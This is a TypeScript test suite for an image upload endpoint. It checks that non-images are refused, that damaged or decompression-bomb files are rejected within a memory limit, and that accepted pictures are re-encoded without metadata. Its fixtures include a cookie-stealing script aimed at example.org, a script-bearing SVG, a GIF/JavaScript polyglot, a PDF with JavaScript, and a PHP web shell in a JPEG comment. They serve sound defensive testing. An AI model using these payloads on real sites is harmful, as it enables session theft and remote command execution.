import sharp from 'sharp'
import { describe, expect, test } from 'vitest'
import { useDatabase } from '../../../test/db.ts'
import { useMedia } from '../../../test/media.ts'
import * as pictures from '../../../test/pictures.ts'

const { plain, png, chunk, idat, ftyp } = pictures
const media = useMedia(useDatabase())

const MB = 1024 * 1024
const ascii = (text: string) => Buffer.from(text, 'latin1')
const SCRIPT = '<script>document.location="https://example.org/?"+document.cookie</script>'
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64">${SCRIPT}<rect width="64" height="64"/></svg>`
const GIF = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64')
const half = (bytes: Buffer) => bytes.subarray(0, bytes.length / 2)
const ihdrOnly = (bytes: Buffer) => bytes.subarray(0, 33)

/** The maximum growth of the process during one upload; without limits the worst files need far more. */
const MAX_GROWTH = 1024 * MB

async function withMemoryLimit<T>(work: () => Promise<T>): Promise<T> {
  const before = process.memoryUsage.rss()
  let peak = before
  const timer = setInterval(() => {
    peak = Math.max(peak, process.memoryUsage.rss())
  }, 10)
  const result = await work()
  clearInterval(timer)
  expect(Math.max(peak, process.memoryUsage.rss()) - before).toBeLessThan(MAX_GROWTH)
  return result
}

type Content = Uint8Array | string | Promise<Uint8Array>

describe('an upload that is not JPEG, PNG, WebP or AVIF: 415', () => {
  test.each<[string, () => Content]>([
    ['text', () => 'some text that is long enough to be inspected'],
    ['HTML', () => `<!doctype html><title>x</title>${SCRIPT}`],
    ['HTML that quotes a JPEG', () => Buffer.concat([ascii(`<!--`), Buffer.from([0xff, 0xd8, 0xff]), ascii('-->')])],
    ['SVG with a script', () => SVG],
    ['SVG behind an XML head and entities', () => `<?xml version="1.0"?><!DOCTYPE s [<!ENTITY a "aaaa">]>${SVG}`],
    ['SVG behind a byte order mark', () => `\ufeff${SVG}`],
    ['GIF', () => GIF],
    ['GIF that is also JavaScript', () => ascii('GIF89a/*\0\0\0\0\0*/=1;alert(1)//;')],
    ['BMP', () => Buffer.concat([ascii('BM'), Buffer.alloc(60)])],
    ['TIFF', () => plain(8, 8).tiff().toBuffer()],
    ['an icon', () => Buffer.concat([Buffer.from([0, 0, 1, 0, 1, 0]), Buffer.alloc(30)])],
    ['PDF', () => '%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'],
    ['ZIP', () => pictures.zip('a.txt', 'hello')],
    ['an ELF program', () => Buffer.concat([ascii('\x7fELF'), Buffer.alloc(60)])],
    ['HEIC', () => Buffer.concat([ftyp('heic', 'mif1', 'heic'), Buffer.alloc(200)])],
    ['HEIC that also lists AVIF', () => Buffer.concat([ftyp('avif', 'heix'), Buffer.alloc(200)])],
    ['a HEIF container without a known brand', () => Buffer.concat([ftyp('mif1', 'miaf'), Buffer.alloc(200)])],
    ['an MP4 film', () => Buffer.concat([ftyp('isom', 'iso2', 'mp41'), Buffer.alloc(200)])],
    ['JPEG XL', () => Buffer.concat([Buffer.from([0xff, 0x0a]), Buffer.alloc(60)])],
    ['JPEG after a space', async () => Buffer.concat([ascii(' '), await plain().jpeg().toBuffer()])],
    ['a sound in a RIFF file', () => ascii('RIFF\0\0\0\0WAVEfmt .................')],
    ['one byte', () => Buffer.from([0xff])],
  ])('%s', async (_, make) => {
    const response = await media.upload(await make())
    expect([response.statusCode, response.json().field]).toEqual([415, 'file'])
    expect(response.json().message).toBe('Only JPEG, PNG, WebP and AVIF pictures can be used.')
  })
})

describe('a damaged or too large picture: 400 without much memory', () => {
  test.each<[string, () => Content]>([
    ['no bytes', () => Buffer.alloc(0)],
    ['a PNG header that claims 60,000 by 60,000', () => png(60_000, 60_000)],
    ['a PNG of 400 megapixels that decompress', () => pictures.areaBomb()],
    ['a JPEG that claims 65,500 by 65,500', () => pictures.jpegClaiming(65_500, 65_500)],
    ['a WebP that claims 16,383 by 16,383', () => pictures.webpClaimingMuch()],
    ['an AVIF with a false small size', () => pictures.avifLying()],
    ['a PNG without pixels', () => png(64, 64)],
    ['a PNG with invalid compressed data', () => png(64, 64, chunk('IDAT', ascii('not deflated at all')))],
    ['a PNG of width 0', () => png(0, 64, idat(1, 64))],
    ['only a PNG header', () => ihdrOnly(png(64, 64))],
    ['a PNG with a chunk longer than the file', () => Buffer.concat([ihdrOnly(png(64, 64)), Buffer.alloc(12, 0xff)])],
    ['half a PNG', async () => half(await pictures.twoHalves().png().toBuffer())],
    ['half a JPEG', async () => half(await pictures.twoHalves().jpeg().toBuffer())],
    ['half a WebP', async () => half(await pictures.twoHalves().webp({ lossless: true }).toBuffer())],
    ['half an AVIF', async () => half(await pictures.twoHalves().avif({ effort: 0 }).toBuffer())],
    ['a JPEG header before HTML', () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), ascii(SCRIPT)])],
    ['a WebP header before HTML', () => ascii(`RIFF\xff\0\0\0WEBPVP8 ${SCRIPT}`)],
    ['an AVIF header before HTML', () => Buffer.concat([ftyp('avif', 'mif1'), ascii(SCRIPT)])],
    ['a JPEG of 300 scans', () => pictures.jpegOfManyScans(300)],
  ])('%s', async (_, make) => {
    const bytes = await make()
    const response = await withMemoryLimit(() => media.upload(bytes))
    expect([response.statusCode, response.json().field]).toEqual([400, 'file'])
    expect(response.json().message).toMatch(/^(This picture (is damaged|is too large)|Please choose a picture)/)
  })

  test('an upload of more than 5 MB: 413', async () => {
    const response = await media.upload(Buffer.concat([await plain().jpeg().toBuffer(), Buffer.alloc(5 * MB)]))
    expect([response.statusCode, response.json().field]).toEqual([413, 'file'])
  })
})

describe('an accepted picture: is encoded again, without metadata and other content', () => {
  const exif = {
    IFD0: { Copyright: 'SECRET-OWNER', ImageDescription: SCRIPT },
    IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '15/1 20/1 0/1' },
  }
  const phone = () => plain().withExif(exif)

  test.each<[string, () => Content]>([
    ['JPEG', () => plain().jpeg().toBuffer()],
    ['progressive JPEG', () => plain().jpeg({ progressive: true }).toBuffer()],
    ['grey JPEG', () => plain().greyscale().jpeg().toBuffer()],
    ['CMYK JPEG', () => plain().toColourspace('cmyk').jpeg().toBuffer()],
    ['JPEG of a phone, with its location', () => phone().jpeg().toBuffer()],
    ['WebP with its location', () => phone().webp().toBuffer()],
    ['AVIF with its location', () => phone().avif({ effort: 0 }).toBuffer()],
    ['PNG with its location', () => phone().png().toBuffer()],
    ['JPEG with a script as XMP', () => plain().withXmp(`<x>${SCRIPT}</x>`).jpeg().toBuffer()],
    ['JPEG with a colour profile', () => plain().withIccProfile('p3').jpeg().toBuffer()],
    [
      'JPEG with a huge invalid profile',
      () => pictures.jpegWith(0xe2, Buffer.concat([ascii('ICC_PROFILE\0\x01\x01'), Buffer.alloc(65_000, 7)])),
    ],
    ['JPEG with HTML in its comment', () => pictures.jpegWith(0xfe, ascii(`${SCRIPT}<?php system($_GET[0]) ?>`))],
    ['JPEG with HTML after its end', async () => Buffer.concat([await plain().jpeg().toBuffer(), ascii(SCRIPT)])],
    [
      'JPEG with a ZIP after its end',
      async () => Buffer.concat([await plain().jpeg().toBuffer(), pictures.zip('x', SCRIPT)]),
    ],
    [
      'PNG with a ZIP after its end',
      async () => Buffer.concat([await plain().png().toBuffer(), pictures.zip('x', SCRIPT)]),
    ],
    ['PNG with a ZIP in a private chunk', () => png(64, 64, chunk('puNk', pictures.zip('x', SCRIPT)), idat(64, 64))],
    ['PNG with a text chunk', () => png(64, 64, chunk('tEXt', ascii(`Comment\0${SCRIPT}`)), idat(64, 64))],
    ['PNG with texts that decompress to 4 GB', () => pictures.textBomb()],
    ['PNG with a profile that decompresses to 100 MB', () => pictures.profileBomb()],
    ['PNG with pixels that decompress to 300 MB', () => pictures.pixelBomb()],
    ['PNG of 16 bits', () => plain().toColourspace('rgb16').png().toBuffer()],
    ['interlaced PNG', () => plain().png({ progressive: true }).toBuffer()],
    ['PNG with few colours', () => plain().png({ palette: true }).toBuffer()],
    ['PNG of one pixel', () => png(1, 1, idat(1, 1))],
    ['PNG one pixel high', () => plain(9_000, 1).png().toBuffer()],
    ['lossless WebP', () => plain().webp({ lossless: true }).toBuffer()],
    [
      'animated WebP',
      async () =>
        sharp([await plain(64, 64).png().toBuffer(), await pictures.twoHalves(64, 64).png().toBuffer()], {
          join: { animated: true },
        })
          .webp()
          .toBuffer(),
    ],
    ['39 megapixels', () => plain(6_500, 6_000).jpeg().toBuffer()],
    [
      '39 megapixels, interlaced and with alpha',
      () => plain(6_500, 6_000).ensureAlpha(0.5).png({ progressive: true }).toBuffer(),
    ],
    ['39 megapixels of AVIF', () => plain(6_500, 6_000).avif({ effort: 0 }).toBuffer()],
  ])('%s', async (_, make) => {
    const bytes = await make()
    const response = await withMemoryLimit(() => media.upload(bytes))
    expect([response.statusCode, response.body]).toEqual([201, expect.stringContaining('"path":"media/')])
    const shown = await media.get(response.json().path)
    expect([shown.statusCode, shown.headers['content-type']]).toEqual([200, 'image/webp'])
    const { format, width, height, pages, exif, icc, xmp, iptc, space } = await sharp(shown.rawPayload).metadata()
    expect({ format, pages, exif, icc, xmp, iptc, space }).toEqual({ format: 'webp', space: 'srgb' })
    expect([width, height]).toEqual([response.json().width, response.json().height])
    expect(width).toBeLessThanOrEqual(1280)
    expect(shown.rawPayload.toString('latin1')).not.toMatch(/script|SECRET|hello|php|EXIF|ICCP|ANIM/)
  })
})
